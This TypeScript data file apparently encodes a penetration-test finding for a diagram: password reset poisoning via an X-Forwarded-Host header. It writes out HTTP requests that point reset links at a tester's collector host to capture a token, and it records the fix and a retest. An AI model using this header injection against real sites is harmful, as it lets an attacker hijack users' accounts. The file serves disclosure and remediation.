import { findingPrefix } from '#contract/finding-numbers.ts';
import type { AttackPath } from './attack-path.ts';

export const webPath: AttackPath = {
  id: `${findingPrefix}-2026-019`,
  title: 'Password reset poisoned by a forwarded host',
  vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:A/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N',
  reported: '2026-02-10',
  retested: '2026-02-17',
  answers: ['202', '400'],
  cut: 2,
  sides: [{ label: 'host: refused', from: 1, at: 2, lane: 0 }],
  hops: [
    {
      label: 'no account',
      glyph: 'globe',
      lane: 1,
      name: 'Open the reset form',
      lines: ['GET /account/forgot HTTP/1.1', 'Host: app.kestrel.example', '', 'HTTP/1.1 200 OK'],
    },
    {
      label: 'reset email',
      glyph: 'mail',
      lane: 2,
      name: 'Send our own hostname',
      lines: [
        'POST /account/forgot HTTP/1.1',
        'X-Forwarded-Host: {-collector.tester.example-} {#1}',
        '',
        'email=second.tester%40kestrel.example',
        '',
        'HTTP/1.1 {!202 Accepted!}',
      ],
      notes: ['the server believes it'],
      after: [
        'POST /account/forgot HTTP/1.1',
        'X-Forwarded-Host: {-collector.tester.example-}',
        '',
        '{+HTTP/1.1 400 Bad Request+}',
        '# the host comes from configuration now',
      ],
    },
    {
      label: 'our collector',
      glyph: 'terminal',
      lane: 1,
      name: 'Wait for one click',
      lines: [
        '# link in the email to our second account',
        'https://{-collector.tester.example-}/account/reset',
        '    ?token={!9b1f[redacted]!}',
      ],
      after: [
        '# link in the email to our second account',
        'https://{+app.kestrel.example+}/account/reset',
        '    ?token=9b1f[redacted]',
      ],
    },
    {
      label: 'second account',
      glyph: 'person',
      lane: 0,
      name: 'Set the password',
      lines: [
        'POST /account/reset HTTP/1.1',
        'token={!9b1f[redacted]!}&password=[redacted]',
        '',
        'HTTP/1.1 303 See Other',
        'Location: {!/dashboard!}',
      ],
      after: ['# no token reached the collector', '{+0 requests in 24 hours+}, 3 variants tried'],
    },
  ],
};
